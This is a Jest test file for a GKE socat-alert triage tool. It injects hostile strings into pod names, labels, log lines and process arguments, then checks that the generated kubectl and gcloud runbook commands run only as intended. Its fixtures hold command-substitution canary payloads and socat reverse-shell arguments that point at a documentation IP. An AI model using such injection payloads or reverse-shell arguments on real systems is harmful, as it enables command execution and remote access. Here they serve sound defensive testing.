/**
 * Injection: a corpus of hostile strings (test/fixtures/hostile/injection.json
 * plus the recording shell's canary payloads and 1 MiB strings) in every slot
 * the attacker reaches — binary path, socat arguments, pod, namespace,
 * container and node names, cluster names, pod/namespace/workload labels and
 * annotations, log lines and audit entries.
 *
 * - Every runbook command that is generated, run in bash, zsh, dash and
 *   busybox sh (and interactive bash and zsh) against recording stand-ins
 *   for kubectl and gcloud (pasted one after another, as into a terminal),
 *   gives each program exactly the intended argv
 *   (test/hostile/intended-argv.ts), feeds `kubectl apply` on stdin the
 *   intended manifest, and runs nothing else: no canary file, no other
 *   program, no shell error. A shell that is not installed fails the test
 *   with how to install it.
 * - No control, bidi, zero-width or line-separator character reaches the
 *   source properties, the marks or our log lines, and every cap holds
 *   (values, the 64 KiB budget, log excerpt lines, log fields).
 *
 * First over the whole corpus through analysis (fast, every value in every
 * slot), then end to end through the emulators and the real clients, where
 * the commands run are the ones stored in SCC.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parseNotification } from '../../lib/finding/parse.js';
import type { SocatFinding } from '../../lib/finding/types.js';
import type { PodSection } from '../../lib/gather/sections.js';
import { analyzeFinding } from '../../lib/report/analyze.js';
import type { TriagedReport } from '../../lib/report/types.js';
import { enrichmentFinding } from '../../lib/scc/writeback.js';
import { loadJson, notificationFixture, pubsubBody } from '../support/fixtures.js';
import { renderView } from '../../lib/cli/render.js';
import { viewFromReport } from '../../lib/cli/view.js';
import { printedCommands } from '../support/printed-commands.js';
import { CANARY_PAYLOADS, runEverywhere, type Scripted } from '../support/recording-shell.js';
import { OWN_SOURCE } from '../support/scc-scenario.js';
import { auditEntry, CLUSTER, LOCATION, PROJECT } from '../support/world.js';
import { enrichmentProblems, logLineProblems, markProblems } from './checks.js';
import { intendedInvocation } from './intended-argv.js';
import { ANSI_SAMPLES, HANG_GUARD_MS, HangGuard, megabyte, recordFigures, uncleanReason } from './support.js';
import { handleDelivery } from './under-test.js';
import { enrichmentsOf, freshOriginal, leastPrivilegeAudit, startHostileWorld, type HostileWorld } from './world-harness.js';

const CORPUS = loadJson<Record<string, string[] | string>>('test/fixtures/hostile/injection.json');
const VALUES: string[] = [...new Set([...Object.values(CORPUS).filter((v): v is string[] => Array.isArray(v)).flat(), ...CANARY_PAYLOADS, ...ANSI_SAMPLES])];
const MEGA: string[] = [megabyte('A'), megabyte(`'$(touch $CANARY_DIR/pwned)'\n`), megabyte('\u202e\u200b\x1b[31m')];
/** Co-prime with any corpus size that matters: each finding gets a different value in each slot. */
const STRIDE = 7;
const NOW = new Date();
const LOG_LINE_MAX_CHARS = 300;

const guard = new HangGuard();
const figures = { injectionValues: VALUES.length + MEGA.length, injectionFindings: 0, injectionCommandsRun: 0, injectionShellChecks: 0, injectionShellRuns: 0, injectionWorldCases: 0, injectionStoredCommandsRun: 0 };
const executedSteps = new Map<string, number>();

/** Runs commands in every shell, pasted one after another; returns the problems (a missing shell is one). */
async function runScripted(all: Scripted[]): Promise<string[]> {
  const report = await runEverywhere(all);
  figures.injectionShellRuns += report.runs;
  figures.injectionShellChecks += report.checks;
  figures.injectionCommandsRun += all.length;
  return [...report.missing, ...report.problems];
}

/**
 * The runbook's commands of a report as the CLI prints them for a person
 * (what an engineer copies), with what each must run. The printed text must
 * be the runbook's command verbatim, and the Step 5 commands the runbook's
 * first steps.
 */
function scriptedSteps(report: TriagedReport, finding: SocatFinding, pod: PodSection | null, label: string, problems: string[]): Scripted[] {
  const steps = report.runbook.steps.filter((s): s is typeof s & { command: string } => s.command !== null);
  const printed = printedCommands(renderView(viewFromReport(JSON.parse(JSON.stringify(report)))));
  if (JSON.stringify(printed) !== JSON.stringify(steps.map((s) => s.command))) problems.push(`${label}: the CLI printed ${printed.length} commands, not the runbook's ${steps.length} verbatim`);
  const byId = (id: string) => report.runbook.steps.find((s) => s.id === id)?.command ?? null;
  const step5 = { getCredentials: byId('get_credentials'), copyBinary: byId('copy_binary'), exec: byId('exec') };
  if (JSON.stringify(report.commands) !== JSON.stringify(step5)) problems.push(`${label}: Step 5 commands differ from the runbook's`);
  return steps.map((step, i) => {
    executedSteps.set(step.id, (executedSteps.get(step.id) ?? 0) + 1);
    return { command: printed[i] ?? step.command, expected: intendedInvocation(step.id, finding, pod), label: `${label} ${step.id}` };
  });
}

// ---------------------------------------------------------------------------
// Over the corpus, through analysis

function hostileCase(k: number, values: readonly string[]): { finding: SocatFinding; pod: PodSection } {
  const pick = (slot: number) => values[(k + slot * STRIDE) % values.length] as string;
  const n = structuredClone(notificationFixture('socat-v2'));
  n.finding.sourceProperties = { Pod_Namespace: pick(1), Pod_Name: pick(2), Container_Name: pick(3), Container_Image_Uri: pick(4), VM_Instance_Name: pick(5) };
  const socat = n.finding.processes[1];
  socat.binary.path = pick(6);
  socat.args = k % 2 === 0 ? ['socat', 'TCP:203.0.113.9:4444', `EXEC:${pick(7)},pty`] : [pick(7), '-d', 'TCP:203.0.113.9:4444', pick(8)];
  // A resource name segment cannot hold '/', or it would not name a cluster at all.
  const segment = (slot: number) => pick(slot).replaceAll('/', '') || 'x';
  n.finding.resourceName = `//container.googleapis.com/projects/${segment(9)}/${k % 3 === 0 ? 'zones/us-central1-a' : 'locations/us-central1'}/clusters/${segment(10)}`;
  const finding = parseNotification(n);
  const pod: PodSection = {
    source: 'kubernetes',
    namespace: finding.workload.namespace ?? 'shop',
    name: finding.workload.pod ?? 'checkout',
    phase: 'Running',
    startTime: null,
    labels: { app: pick(11), [pick(12)]: 'x', 'pod-template-hash': '7d9fb6c5d4' },
    annotations: { note: pick(13) },
    serviceAccount: pick(14),
    node: pick(15),
    containers: [{ name: pick(3), image: pick(4), imageDigest: null, restartCount: 0, ready: true }],
    redFlags: [],
    owners: [
      { kind: 'ReplicaSet', name: `${pick(16)}-7d9fb6c5d4`, labels: {} },
      { kind: 'Deployment', name: pick(16), labels: { team: pick(17) } },
    ],
    consoleUrl: null,
  };
  return { finding, pod };
}

describe('every corpus value in every slot, through analysis', () => {
  it('renders clean, bounded properties and commands that give kubectl and gcloud exactly the intended argv, and nothing else', async () => {
    const problems: string[] = [];
    const scripted: Scripted[] = [];
    for (let k = 0; k < VALUES.length; k++) {
      const { finding, pod } = hostileCase(k, VALUES);
      const report = guard.timeSync(finding.workload, () => analyzeFinding(finding, { sections: { pod }, gaps: [] }));
      problems.push(...enrichmentProblems(enrichmentFinding(report, { sourceName: OWN_SOURCE, organization: finding.organization, now: NOW })).map((p) => `case ${k}: ${p}`));
      scripted.push(...scriptedSteps(report, finding, pod, `case ${k}`, problems));
      figures.injectionFindings += 1;
    }
    problems.push(...(await runScripted(scripted)));
    expect(problems).toEqual([]);
    // Not vacuous: hostile values still give runnable commands, of every kind. (Each case puts a corpus value in
    // every slot, and about a third of the corpus holds control or invisible characters, which refuse the steps
    // that would carry them: lib/shell/quote.ts.)
    expect(scripted.length).toBeGreaterThan(VALUES.length);
    for (const id of ['get_credentials', 'copy_binary', 'exec', 'debug', 'block_c2_egress', 'block_all_egress', 'cordon', 'delete_pod', 'scale_to_zero']) {
      expect([id, (executedSteps.get(id) ?? 0) >= 5]).toEqual([id, true]);
    }
  }, 120_000);

  it('keeps megabyte values in every slot within the caps and the hang guard (their commands are refused, not cut)', () => {
    for (let k = 0; k < MEGA.length; k++) {
      const { finding, pod } = hostileCase(0, [MEGA[k] as string]);
      const report = guard.timeSync('1 MiB', () => analyzeFinding(finding, { sections: { pod }, gaps: [] }));
      const written = enrichmentFinding(report, { sourceName: OWN_SOURCE, organization: finding.organization, now: NOW });
      expect(enrichmentProblems(written)).toEqual([]);
      expect(report.runbook.steps.filter((s) => s.command !== null).map((s) => s.id)).toEqual([]);
      figures.injectionFindings += 1;
    }
    expect(guard.maxMs < HANG_GUARD_MS ? 'within the hang guard' : guard.describeWorst()).toBe('within the hang guard');
  });
});

// ---------------------------------------------------------------------------
// End to end: the emulators, the real clients, what is stored in SCC

let hw: HostileWorld;
let attack: Record<string, any>;

beforeAll(async () => {
  hw = await startHostileWorld({ LOG_LINE_MAX_CHARS: String(LOG_LINE_MAX_CHARS), MAX_EVENT_AGE_SECONDS: '3600' });
  attack = freshOriginal(hw.world, structuredClone(notificationFixture('socat-v2')), 'template');
  attack.finding.eventTime = new Date(Date.now() - 120_000).toISOString();
}, 60_000);

afterAll(async () => {
  await hw?.stop();
});

const at = (offsetSeconds: number) => new Date(Date.parse(attack.finding.eventTime) + offsetSeconds * 1000).toISOString();

/** A namespace, a Deployment → ReplicaSet → pod chain and logs where every label, annotation and log text is hostile. */
function seedHostileCluster(ns: string, pod: string, values: readonly string[]): void {
  const pick = (i: number) => values[i % values.length] as string;
  const shown = values.filter((v) => uncleanReason(v) === null && v !== '');
  const visible = (i: number) => shown[i % shown.length] as string;
  const labels = (i: number) => Object.fromEntries([0, 1, 2].map((j) => [`k${j}-${i}`, pick(i * 3 + j)]));
  const meta = (name: string, extra: Record<string, unknown> = {}) => ({ name, namespace: ns, ...extra });
  const kube = hw.world.kube;
  kube.seed({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels: { team: pick(40), owner: pick(41), ...labels(5) }, annotations: { 'example.com/oncall': pick(42), big: MEGA[1] as string } } });
  kube.seed({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: meta('web', { labels: { team: pick(43), contact: pick(44) } }) });
  kube.seed({ apiVersion: 'apps/v1', kind: 'ReplicaSet', metadata: meta('web-5f7d8c9b6d', { ownerReferences: [{ apiVersion: 'apps/v1', kind: 'Deployment', name: 'web', uid: 'u1', controller: true }] }) });
  kube.seed({
    apiVersion: 'v1',
    kind: 'Pod',
    // Pod labels end up in the NetworkPolicy here-documents; ones with invisible characters make the runbook refuse those
    // steps (checked in the analysis tests), so these are the visible kind: quotes, shell and YAML syntax.
    metadata: meta(pod, { labels: { app: visible(45), tier: visible(46), 'pod-template-hash': '5f7d8c9b6d', ...Object.fromEntries([0, 1, 2].map((j) => [`k${j}`, visible(j)])) }, annotations: { a: pick(47), huge: MEGA[2] as string }, ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-5f7d8c9b6d', uid: 'u2', controller: true }] }),
    spec: { nodeName: 'gke-shop-prod-default-pool-3f2a9c1e-k8vz', serviceAccountName: pick(48), containers: [{ name: 'web', image: `us-docker.pkg.dev/${PROJECT}/apps/web:1`, securityContext: {} }] },
    status: { phase: 'Running', containerStatuses: [{ name: 'web', image: 'x', imageID: pick(49), restartCount: 0, ready: true }] },
  });
  const container = (text: string, i: number) => ({
    logName: `projects/${PROJECT}/logs/stdout`,
    resource: { type: 'k8s_container', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER, namespace_name: ns, pod_name: pod, container_name: 'web' } },
    timestamp: at(-300 + i),
    severity: 'INFO' as const,
    textPayload: text,
  });
  hw.world.logging.seed([...values.slice(0, 40).map(container), container(megabyte('\x1b[31m$(touch $CANARY_DIR/pwned)\u202e'), 41)]);
  hw.world.logging.seed([
    auditEntry(
      at(-30),
      'io.k8s.core.v1.pods.exec.create',
      `core/v1/namespaces/${ns}/pods/${pod}/exec?command=sh&command=-c&command=${encodeURIComponent(pick(0))}&container=web`,
      `${pick(50)}@example.com`,
      pick(51),
      pick(52),
    ),
  ]);
}

interface WorldCase {
  label: string;
  mutate(n: Record<string, any>): void;
  /** The cluster objects exist (hostile labels, annotations, logs) rather than the names being hostile. */
  seed?: () => void;
}

function pickEvery(step: number, offset: number): string {
  return VALUES[(offset * step) % VALUES.length] as string;
}

const WORLD_CASES: WorldCase[] = [
  {
    label: 'hostile labels, annotations, audit entry and log lines in the cluster',
    seed: () => seedHostileCluster('hostile', 'web-5f7d8c9b6d-q2w4e', VALUES),
    mutate(n) {
      n.finding.sourceProperties = { Pod_Namespace: 'hostile', Pod_Name: 'web-5f7d8c9b6d-q2w4e', Container_Name: 'web', VM_Instance_Name: 'gke-shop-prod-default-pool-3f2a9c1e-k8vz' };
      n.finding.kubernetes = { pods: [{ ns: 'hostile', name: 'web-5f7d8c9b6d-q2w4e' }] };
      n.finding.processes[1].binary.path = '/tmp/.x/so\u202ecat';
      n.finding.processes[1].args = ['socat', 'TCP:203.0.113.9:4444', `EXEC:'sh -c "$(touch $CANARY_DIR/pwned)"',pty`];
    },
  },
  ...[1, 2, 3, 4, 5, 6].map(
    (i): WorldCase => ({
      label: `hostile names from the finding #${i}`,
      mutate(n) {
        n.finding.sourceProperties = { Pod_Namespace: pickEvery(11, i), Pod_Name: pickEvery(13, i), Container_Name: pickEvery(17, i), Container_Image_Uri: pickEvery(19, i), VM_Instance_Name: pickEvery(23, i) };
        n.finding.processes[1].binary.path = pickEvery(29, i);
        n.finding.processes[1].args = ['socat', pickEvery(31, i), `EXEC:${pickEvery(37, i)}`];
        n.finding.processes[0].args = ['/bin/bash', '-c', pickEvery(41, i)];
      },
    }),
  ),
  {
    label: 'megabyte binary path, argument, pod name and image',
    mutate(n) {
      n.finding.sourceProperties = { ...n.finding.sourceProperties, Pod_Name: MEGA[1], Container_Image_Uri: MEGA[2] };
      n.finding.processes[1].binary.path = `/${MEGA[0]}`;
      n.finding.processes[1].args = ['socat', 'TCP:203.0.113.9:4444', `EXEC:${MEGA[1]}`];
    },
  },
];

describe('end to end through the emulators and the real clients', () => {
  it.each(WORLD_CASES.map((c) => [c.label, c] as const))('%s: clean and bounded in SCC, the marks and our logs; the stored commands run exactly as intended', async (_label, c) => {
    c.seed?.();
    const n = freshOriginal(hw.world, attack, 'inj');
    c.mutate(n);
    const seeded = structuredClone(n);
    hw.world.scc.addFinding(n.finding.name, { category: n.finding.category, state: 'ACTIVE', resourceName: n.finding.resourceName, eventTime: n.finding.eventTime, sourceProperties: n.finding.sourceProperties });
    const before = hw.logLines.length;
    const result = await guard.time(c.label, () => handleDelivery(pubsubBody(seeded), hw.instance()));
    expect(result.outcome).toBe('triaged');
    const report = result.report as TriagedReport;
    figures.injectionWorldCases += 1;

    const [stored] = enrichmentsOf(hw.world, n.finding.name);
    expect(stored).toBeDefined();
    expect(enrichmentProblems(stored as never)).toEqual([]);
    expect(markProblems(hw.world.scc.getMarks(n.finding.name))).toEqual([]);
    const lines = hw.logLines.slice(before);
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.flatMap(logLineProblems)).toEqual([]);
    for (const log of [report.logs.pod, report.logs.audit, report.logs.node]) {
      for (const line of [...(log?.first ?? []), ...(log?.last ?? [])]) expect(line.text.length).toBeLessThanOrEqual(LOG_LINE_MAX_CHARS);
    }

    // The commands as stored in SCC (what the on-call engineer copies), in runbook order.
    const finding = parseNotification(seeded);
    const problems: string[] = [];
    const scripted: Scripted[] = [];
    const props = stored!.sourceProperties as Record<string, { stringValue?: string }>;
    for (const [key, value] of Object.entries(props).sort(([a], [b]) => (a < b ? -1 : 1))) {
      const m = /^F\d\d_([a-z_]+)$/.exec(key);
      const command = value.stringValue;
      if (!m || command === undefined) continue;
      const step = report.runbook.steps.find((x) => x.id === m[1]);
      // A property holds the runbook's command verbatim, or a note saying why not (unusable, too long, over the budget).
      if (command.startsWith('(')) {
        expect(command).toMatch(/^\((not available: |command of \d+ chars)/);
        continue;
      }
      expect(command).toBe(step?.command);
      scripted.push({ command, expected: intendedInvocation(m[1]!, finding, report.pod), label: `${c.label} ${key}` });
    }
    problems.push(...(await runScripted(scripted)));
    figures.injectionStoredCommandsRun += scripted.length;
    expect(problems).toEqual([]);
    if (c.seed) {
      // The cluster's objects were read: the containment steps were built from their hostile labels and owners.
      expect(report.runbook.steps.filter((x) => x.command !== null).map((x) => x.id)).toEqual(expect.arrayContaining(['block_c2_egress', 'block_all_egress', 'scale_to_zero']));
      expect(scripted.length).toBeGreaterThanOrEqual(7);
    }
  }, 60_000);

  it('made no write to Kubernetes or GKE and no SCC write but our finding and the socat_triage_* marks (request logs)', () => {
    const audit = leastPrivilegeAudit(hw);
    expect(audit.violations).toEqual([]);
    expect(audit.calls).toBeGreaterThan(50);
    // A whole triage through six emulators with megabyte values in it: the guard is five times the per-input one.
    expect(guard.maxMs < HANG_GUARD_MS * 5 ? 'within the hang guard' : guard.describeWorst()).toBe('within the hang guard');
    recordFigures('injection', { ...figures, injectionCallsAudited: audit.calls });
  });
});
